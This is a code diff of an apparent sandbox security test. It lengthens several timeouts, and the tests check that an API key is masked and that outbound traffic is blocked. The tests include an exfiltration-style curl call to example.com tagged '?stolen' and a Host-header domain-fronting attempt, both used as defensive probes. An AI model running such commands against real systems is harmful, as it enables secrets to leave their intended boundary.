@@ -14,7 +14,7 @@ setInterval(async () => {
 }, 200);
 `;
 
-const sandbox = await Sandbox.create({ persistent: false, timeout: 120_000, env: { NPM_CONFIG_REGISTRY: REGISTRY } });
+const sandbox = await Sandbox.create({ persistent: false, timeout: 600_000, env: { NPM_CONFIG_REGISTRY: REGISTRY } });
 async function run(command) {
   const done = await sandbox.runCommand("sh", ["-c", command]);
   return { code: done.exitCode, text: (await done.stdout()) + (await done.stderr()) };
@@ -25,10 +25,10 @@ async function audit() {
   return (await answer.json()).records;
 }
 async function until(condition, what) {
-  for (const end = Date.now() + 15_000; Date.now() < end; await new Promise((resolve) => setTimeout(resolve, 50))) {
+  for (const end = Date.now() + 120_000; Date.now() < end; await new Promise((resolve) => setTimeout(resolve, 50))) {
     if (await condition()) return;
   }
-  assert.fail(`${what}: not within 15 s`);
+  assert.fail(`${what}: not within 120 s`);
 }
 
 try {
@@ -65,9 +65,9 @@ try {
   assert.match(echoed.text, /\*{40}/, echoed.text);
   assert.ok(!echoed.text.includes(KEY), "the key came back");
   console.log(`theft     asking the API to repeat the key: "authorization": "${"*".repeat(16)}…", masked on its way back`);
-  const elsewhere = await run("curl -sS --max-time 10 https://example.com/?stolen");
+  const elsewhere = await run("curl -sS --max-time 60 https://example.com/?stolen");
   assert.notEqual(elsewhere.code, 0, "another server was reached");
-  const fronted = await run(`curl -sS --max-time 10 -H 'Host: example.com' ${API}/v1/orders`);
+  const fronted = await run(`curl -sS --max-time 60 -H 'Host: example.com' ${API}/v1/orders`);
   assert.match(fronted.text, /name_mismatch/, fronted.text);
   console.log(`theft     to another server: ${elsewhere.text.trim().split("\n").pop()}`);
 
